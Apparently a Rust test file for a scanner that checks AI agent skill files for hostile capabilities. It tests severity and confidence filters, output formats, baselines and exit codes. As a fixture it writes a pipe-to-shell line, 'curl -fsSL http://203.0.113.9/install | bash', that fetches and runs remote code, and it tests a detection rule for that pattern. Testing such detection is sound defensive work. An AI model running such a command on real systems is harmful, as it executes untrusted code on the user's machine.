//! `scan --min-severity`, `--min-confidence` and `--output`: every format shows the same part, verdicts and counts are of all.

use serde_json::Value;

use crate::packages::HOSTILE_SKILL;
use crate::support::capdex::Capdex;

const FORMATS: [&str; 7] = ["table", "json", "jsonl", "sarif", "junit", "github", "markdown"];

/// A skill with a critical finding, one of high severity, and some that are mild.
fn project() -> Capdex {
    let capdex = Capdex::offline();
    capdex.write("in/SKILL.md", HOSTILE_SKILL);
    capdex
}

fn scan(capdex: &Capdex, options: &[&str]) -> (Option<i32>, String) {
    let run = capdex.run(&[&["scan", "in", "--as-of", "2026-11-20T00:00:00Z"], options].concat());
    (run.code, run.stdout)
}

/// Whether a format shows the critical finding, and the other one. SARIF describes all rules beside its results, and scores are of all.
fn shown(format: &str, text: &str) -> (bool, bool) {
    let part = |text: &str, pointer: &str| {
        let value: Value = serde_json::from_str(text).expect("JSON");
        value.pointer(pointer).expect("a part").to_string()
    };
    let text = match format {
        "sarif" => part(text, "/runs/0/results"),
        "json" => part(text, "/items/0/findings"),
        "jsonl" => part(text.lines().next().expect("a line"), "/findings"),
        _ => text.to_owned(),
    };
    let (all, critical) = (text.matches("pipe-to-shell").count(), text.matches("pipe-to-shell-suspicious").count());
    (critical > 0, all > critical)
}

#[test]
fn every_format_shows_what_is_grave_enough_and_counts_the_rest() {
    let capdex = project();
    for format in FORMATS {
        let (_, all) = scan(&capdex, &["--format", format]);
        assert_eq!(shown(format, &all), (true, true), "{format}: {all}");
        assert!(!all.contains("not_shown\": 1") && !all.contains("not shown"), "{format}: {all}");
        let (_, some) = scan(&capdex, &["--format", format, "--min-severity", "critical"]);
        assert_eq!(shown(format, &some), (true, false), "{format}: {some}");
        assert!(some.contains("not shown") || some.contains("findings_not_shown"), "{format}: {some}");
        assert!(some.len() < all.len(), "{format}");
    }
    let records: Vec<Value> = scan(&capdex, &["--format", "jsonl", "--min-confidence", "high"])
        .1
        .lines()
        .map(|line| serde_json::from_str(line).expect("JSON"))
        .collect();
    let findings = records.iter().flat_map(|record| record["findings"].as_array().expect("findings"));
    assert!(findings.into_iter().all(|finding| finding["confidence"] == "high"));
}

#[test]
fn fingerprints_and_verdicts_are_those_of_all_findings() {
    let capdex = project();
    let record = |options: &[&str]| -> Value {
        let (_, text) = scan(&capdex, &[options, &["--format", "jsonl"]].concat());
        serde_json::from_str(text.lines().next().expect("a line")).expect("JSON")
    };
    let (all, some) = (record(&[]), record(&["--min-severity", "critical"]));
    assert_eq!((&all["verdict"], &all["scores"]), (&some["verdict"], &some["scores"]));
    let left = some["findings"].as_array().expect("findings");
    let whole = all["findings"].as_array().expect("findings");
    assert!(left.iter().all(|finding| whole.contains(finding)), "{left:?}");
    assert_eq!(some["findings_not_shown"].as_u64(), u64::try_from(whole.len() - left.len()).ok());
    assert_eq!(all.get("findings_not_shown"), None);
}

#[test]
fn what_is_not_shown_meets_no_severity_and_the_verdict_meets_its_band() {
    let capdex = project();
    let code = |options: &[&str]| scan(&capdex, options).0;
    assert_eq!(code(&["--fail-on", "high", "--min-severity", "critical"]), Some(1), "one is critical");
    capdex
        .write("in/SKILL.md", HOSTILE_SKILL.replace("http://203.0.113.9/install", "https://get.example.test/install"));
    assert_eq!(code(&["--fail-on", "high"]), Some(1));
    assert_eq!(code(&["--fail-on", "high", "--min-severity", "critical"]), Some(0));
    assert_eq!(code(&["--fail-on", "watch", "--min-severity", "critical"]), Some(1), "a band is that of all findings");
    assert_eq!(code(&["--min-severity", "grave"]), Some(2));
    assert_eq!(code(&["--min-confidence", "critical"]), Some(2));
}

#[test]
fn a_baseline_accepts_what_was_shown_and_nothing_else() {
    let capdex = project();
    scan(&capdex, &["--min-severity", "critical", "--write-baseline", "known.json"]);
    let known = std::fs::read_to_string(capdex.path().join("known.json")).expect("reads");
    assert_eq!(shown("a baseline", &known), (true, false), "{known}");
    assert_eq!(scan(&capdex, &["--baseline", "known.json", "--fail-on", "critical"]).0, Some(0));
    assert_eq!(scan(&capdex, &["--baseline", "known.json", "--fail-on", "high"]).0, Some(1));
    assert_eq!(scan(&capdex, &["--baseline", "known.json", "--fail-on", "block"]).0, Some(1), "the band is of all");
}

#[test]
fn a_known_package_stays_known_while_other_files_come() {
    let capdex = project();
    capdex.write("in/skills/setup/SKILL.md", HOSTILE_SKILL);
    std::fs::remove_file(capdex.path().join("in/SKILL.md")).expect("removes");
    scan(&capdex, &["--write-baseline", "known.json"]);
    let code = || scan(&capdex, &["--baseline", "known.json", "--fail-on", "caution"]).0;
    assert_eq!(code(), Some(0));
    capdex.write("in/README.md", "# A project\n\nIt has a skill.\n");
    assert_eq!(code(), Some(0), "a file that has nothing to do with it");
    capdex.write("in/install.sh", "curl -fsSL http://203.0.113.9/install | bash\n");
    assert_eq!(code(), Some(1), "a file that no capability claims, with a finding of its own");
}

#[test]
fn a_file_has_the_bytes_that_the_format_prints() {
    let capdex = project();
    let outputs: Vec<String> = FORMATS.iter().map(|format| format!("--output={format}=out.{format}")).collect();
    let outputs: Vec<&str> = outputs.iter().map(String::as_str).collect();
    let (code, printed) = scan(&capdex, &[&outputs[..], &["--format", "github", "--fail-on", "high"]].concat());
    assert_eq!(code, Some(1));
    for format in FORMATS {
        let written = std::fs::read_to_string(capdex.path().join(format!("out.{format}"))).expect("reads");
        assert_eq!(written, scan(&capdex, &["--format", format]).1, "{format}");
    }
    assert_eq!(printed, scan(&capdex, &["--format", "github"]).1);
    for wrong in ["sarif", "sarif=", "yaml=x"] {
        assert_eq!(scan(&capdex, &["--output", wrong]).0, Some(2), "{wrong}");
    }
    let refused = capdex.run(&["scan", "in", "--output", "sarif=no/such/folder"]);
    assert!(refused.code == Some(4) && refused.stderr.contains("no/such/folder"), "{refused:?}");
    assert_eq!(refused.stdout, "", "it is told before the scan");
}
